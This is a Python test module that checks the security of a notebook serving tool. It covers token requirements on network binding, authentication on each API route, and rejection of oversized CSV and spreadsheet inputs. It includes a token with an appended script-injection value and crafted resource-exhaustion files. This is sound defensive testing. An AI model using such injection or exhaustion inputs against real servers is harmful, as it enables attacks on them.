    with pytest.raises(ParameterError):
        serve.start(host="0.0.0.0", port=serve.free_port(), token="a" * 20 + "&x=<script>")
    done = zi_nb("serve", "--host", "0.0.0.0", "--token", "", "--port", str(serve.free_port()), cwd=tmp_path,
                 timeout=60)
    check("empty token on 0.0.0.0", "zi-nb serve CLI", done.returncode == 2 and "token" in done.stderr.lower()
          and "Traceback" not in done.stderr, f"{done.returncode}: {done.stderr[-300:]}")
    srv = serve.start(ledger_path=str(tmp_path / "l.sqlite"), port=serve.free_port(), log=tmp_path / "voila.log")
    try:
        srv.wait_ready(timeout=90)
        addresses = listening(srv.port)
        check("default address", "voila socket", addresses and set(addresses) <= LOOPBACK, f"{addresses}")
        outside = own_address()
        if outside:  # this machine's own non-loopback address (when it has one): connecting through it must fail
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
                sock.settimeout(5)
                assert sock.connect_ex((outside, srv.port)) != 0, f"reachable through {outside}"
    finally:
        srv.stop()
    check.done()


def test_token_guards_every_route(tmp_path):
    from zi_nb.app import serve

    check = Checks()
    token = "T" * 32
    srv = serve.start(host="0.0.0.0", ledger_path=str(tmp_path / "l.sqlite"), port=serve.free_port(), token=token,
                      log=tmp_path / "voila.log")

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args: Any, **kwargs: Any) -> None:
            return None

    opener = urllib.request.build_opener(NoRedirect)

    def status(path: str, method: str = "GET", headers: dict[str, str] | None = None) -> int:
        req = urllib.request.Request(f"http://127.0.0.1:{srv.port}{path}", method=method, headers=headers or {},
                                     data=b"{}" if method == "POST" else None)
        try:
            with opener.open(req, timeout=60) as resp:
                return resp.status
        except urllib.error.HTTPError as exc:
            return exc.code

    try:
        srv.wait_ready(timeout=90)
        check("URL carries the token", "zi-nb serve", f"?token={token}" in srv.url, srv.url)
        for path, method in (("/api/kernels", "GET"), ("/api/kernels", "POST"), ("/api/sessions", "GET"),
                             ("/api/contents", "GET"), ("/voila/render/evaluator.ipynb", "GET"),
                             ("/api/kernelspecs", "GET")):
            code = status(path, method)
            check(f"{method} {path} without token", "voila", code in (302, 401, 403), f"status {code}")
        code = status("/api/kernels", "POST", {"Authorization": "token salah"})
        check("POST /api/kernels with a wrong token", "voila", code in (302, 401, 403), f"status {code}")
        check("the page with the token", "voila", status(f"/?token={token}") == 200, "refused with the token")
    finally:
        srv.stop()
    check.done()


# -- input limits through the CLI -----------------------------------------------------------------------------------
def test_oversized_inputs_are_refused_with_a_clear_message(tmp_path):
    from openpyxl import Workbook

    from zi_nb.common import limits

    check = Checks()
    big = tmp_path / "besar.csv"
    with open(big, "wb") as f:
        f.write(b"unit_id,code,answer\n")
        f.truncate(limits.MAX_INPUT_BYTES + 1)  # sparse: nothing to write, 50 MB to read if not refused first
    rows = tmp_path / "baris.csv"
    rows.write_text("unit_id,code,answer\n" + "u,PPA1A,Ya\n" * (limits.MAX_ROWS + 1), encoding="utf-8")
    wb = Workbook()
    ws = wb.active
    for cell, value in (("A1", "unit_id"), ("B1", "code"), ("C1", "answer"), ("A2", "u"), ("B2", "PPA1A"),
                        ("C2", "Ya"), ("XFD1048576", 1)):
        ws[cell] = value
    bomb = tmp_path / "sel-terjauh.xlsx"  # 5 KB that span 17 billion cells
    wb.save(bomb)
    cases = [("50 MB + 1 byte", big, limits.size(limits.MAX_INPUT_BYTES)),
             ("1.000.001 rows", rows, limits.number(limits.MAX_ROWS)),
             ("cell XFD1048576", bomb, "XFD1048576")]
    for attack, path, says in cases:
        for command in ("validate", "score"):
            done = zi_nb(command, str(path), cwd=tmp_path, timeout=120)
            text = done.stdout + done.stderr
            check(attack, f"zi-nb {command}", done.returncode in (1, 2) and "Traceback" not in text
                  and says in text and "batas" in text, f"{done.returncode}: {text[-300:]}")
    check.done()


# -- the figure -----------------------------------------------------------------------------------------------------
def test_zz_figure():
    """Distinct (attack, sink) checks this module performed (every test above runs all its checks)."""
    report("security_checks", len(PERFORMED))
